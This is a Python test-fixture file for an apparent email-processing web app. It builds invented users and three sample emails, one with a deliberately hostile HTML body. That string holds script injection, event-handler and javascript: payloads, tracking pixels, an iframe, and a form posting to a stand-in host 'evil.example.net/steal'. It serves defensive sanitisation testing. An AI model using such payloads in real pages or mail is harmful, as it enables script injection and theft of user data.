"""Synthetic material for the web tests: the demo tracker and mail, plus a hostile HTML email.

Every name and address is invented.
"""

from __future__ import annotations

import os
from datetime import UTC, datetime
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path

from mailbot.demo_data import samples, tracker_csv

USERS = (
    ("bs@example.gov.uk", "business_support"),
    ("admin@example.gov.uk", "admin"),
    ("priya.shah@example.gov.uk", "social_worker"),
    ("daniel.okafor@example.gov.uk", "social_worker"),
    ("mark.ellis@example.gov.uk", "team_manager"),
)
HOSTILE_SUBJECT = "Notes from today (hostile HTML test)"
TWO_JACKS_SUBJECT = "Visit record - Jack W"
DISMISS_SUBJECT = "Quick question about the rota"

HOSTILE_HTML = """<html><head><style>body { background: url(http://tracker.example.net/bg.png); }</style>
<script>document.title = 'PWNED'; window.pwned = true;</script></head>
<body onload="window.pwned = true">
<p id="hello">Hello, here are my notes.</p>
<img src="http://tracker.example.net/pixel.gif" alt="tracking pixel">
<img src="https://tracker.example.net/logo.png" onerror="window.pwned = true">
<a href="javascript:window.pwned=true">click me</a>
<iframe src="https://evil.example.net/"></iframe>
<form action="https://evil.example.net/steal"><input name="x"></form>
<table><tr><td>Visit date</td><td>19/11/2026</td></tr></table>
</body></html>"""


def tracker() -> str:
    return tracker_csv()


def _message(subject: str, sender: str, body: str, n: int, html: str | None = None) -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = "mecc@example.gov.uk"
    msg["Subject"] = subject
    msg["Date"] = format_datetime(datetime(2026, 11, 19, 15, n, tzinfo=UTC))
    msg["Message-ID"] = f"<web-test-{n:03d}@partners.example.org>"
    msg.set_content(body)
    if html is not None:
        msg.add_alternative(html, subtype="html")
    return msg


def extra_mail() -> list[tuple[str, bytes]]:
    hostile = _message(
        HOSTILE_SUBJECT,
        "Pat Unknown <pat.unknown@elsewhere.example.org>",
        "Notes.",
        1,
        HOSTILE_HTML,
    )
    hostile.add_attachment(
        b"Visit notes\nThe family were at home. Nothing else to add.\n",
        maintype="text",
        subtype="plain",
        filename="notes.txt",
    )
    jacks = _message(
        TWO_JACKS_SUBJECT,
        "Robin Vale <robin.vale@charity.example.org>",
        "Record of visit\nChild's name: Jack Wilson\nDate of visit: 18/11/2026\n"
        "Was the child seen? Yes\nObservations: Jack showed me his new bike.\n",
        2,
    )
    question = _message(
        DISMISS_SUBJECT,
        "Lee Rota <lee.rota@charity.example.org>",
        "Hello, who should I ask about the visiting rota for next month?\nThanks, Lee",
        3,
    )
    return [
        ("w1-hostile.eml", hostile.as_bytes()),
        ("w2-two-jacks.eml", jacks.as_bytes()),
        ("w3-question.eml", question.as_bytes()),
    ]


def put_mail(root: Path) -> None:
    inbox = root / "var" / "mailbox"
    for sub in ("tmp", "new", "cur"):
        (inbox / sub).mkdir(parents=True, exist_ok=True)
    mail = [(s.name, s.raw) for s in samples()] + extra_mail()
    for i, (name, raw) in enumerate(mail):
        path = inbox / "new" / name
        path.write_bytes(raw)
        os.utime(path, (1_700_000_000 + i, 1_700_000_000 + i))
